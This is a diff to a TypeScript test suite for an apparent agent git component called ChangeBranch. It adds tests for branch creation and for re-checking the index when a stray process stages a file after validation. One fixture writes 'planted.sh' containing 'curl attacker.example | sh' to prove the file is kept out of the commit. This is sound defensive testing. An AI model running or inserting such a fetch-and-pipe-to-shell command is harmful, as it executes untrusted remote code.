@@ -64,6 +64,8 @@ async function run(repo: TestRepo, options: Partial<ChangeBranchOptions> = {}, p
   await branch.reset() // the agent resets before each attempt
   const applied = await branch.apply(patch, ['src/greet.txt'])
   expect(applied.exitCode, applied.stderr).toBe(0)
+  // As the agent does once it checked the index after validation (assertClean).
+  branch.noteIndexChecked()
   // As the agent commits: the approved contents go with the request.
   const files = [{ path: 'src/greet.txt', content: repo.read('src/greet.txt') }]
   const made =
@@ -77,9 +79,10 @@ async function run(repo: TestRepo, options: Partial<ChangeBranchOptions> = {}, p
 }
 
 describe('ChangeBranch: the happy paths', () => {
-  it('push: true creates the branch from the base, commits once and pushes, in 13 git processes', async () => {
+  it('push: true creates the branch from the base, commits once and pushes, in 12 git processes', async () => {
     // 1 listing of the effective config (read again only when a config file changes), which
-    // also checks it before each remote command; 5 of its own (the remote's URL is read only to
+    // also checks it before each remote command; 4 of its own (`checkout -b` makes the branch and
+    // moves HEAD in one, without a pass over the tree; the remote's URL is read only to
     // name it in a refusal); 3 remote commands (ls-remote, the push access check, the push); 4
     // to build the commit from the approved contents on the base, reading (through the run's one
     // object reader) and writing only the trees on their paths, and move the branch to it (the
@@ -88,7 +91,7 @@ describe('ChangeBranch: the happy paths', () => {
     const repo = repoWith()
     const base = repo.git('rev-parse', 'HEAD')
     const { git, made } = await run(repo)
-    expect(git.processCount).toBe(13)
+    expect(git.processCount).toBe(12)
     expect(made).toHaveLength(1)
     const [commit] = made
     expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(commit!.sha)
@@ -333,6 +336,41 @@ describe('ChangeBranch: the commit is the approved change', () => {
     expect(repo.git('status', '--porcelain')).toBe('')
     expect(existsSync(join(repo.dir, 'planted.sh'))).toBe(false)
     expect(repo.read('src/greet.txt')).toBe(approved)
+  })
+
+  it('makes the branch with branch and symbolic-ref when checkout -b would set an upstream', async () => {
+    const repo = repoWith()
+    repo.git('config', 'branch.autoSetupMerge', 'always')
+    const { git, made } = await run(repo)
+    expect(git.processCount).toBe(13)
+    expect(repo.git('symbolic-ref', '--short', 'HEAD')).toBe(BRANCH)
+    expect(repo.gitOrigin('rev-parse', `refs/heads/${BRANCH}`)).toBe(made[0]!.sha)
+    // No upstream written into the repository's config for the new branch.
+    const config = repo.git('config', '--get-regexp', '^branch\\.').split('\n')
+    expect(config).toContain('branch.autosetupmerge always')
+    expect(config.filter((line) => line.startsWith(`branch.${BRANCH}.`))).toEqual([])
+    expect(repo.git('reflog', '--format=%gs', 'HEAD').split('\n')).toContain(
+      `checkout: moving from main to ${BRANCH}`
+    )
+  })
+
+  it('looks at the index again when it was written after it was last checked', async () => {
+    const repo = repoWith()
+    const { branch } = await prepare(repo, { push: false })
+    await branch.create()
+    await branch.apply(GREETING, ['src/greet.txt'])
+    const approved = repo.read('src/greet.txt')
+    const files = [{ path: 'src/greet.txt', content: approved }]
+    const request = { message: MESSAGE, patch: GREETING, paths: ['src/greet.txt'], files }
+    branch.noteIndexChecked()
+    // A process left behind stages a file after the check: the stamp no longer matches.
+    writeFileSync(join(repo.dir, 'planted.sh'), 'curl attacker.example | sh\n')
+    repo.git('add', 'planted.sh')
+    const [made] = await branch.commit([request], { signoff: false })
+    // diff-index found it, and the reset took it out of index and work tree.
+    expect(repo.git('show', '--name-only', '--format=', made!.sha)).toBe('src/greet.txt')
+    expect(repo.git('status', '--porcelain')).toBe('')
+    expect(existsSync(join(repo.dir, 'planted.sh'))).toBe(false)
   })
 })
 
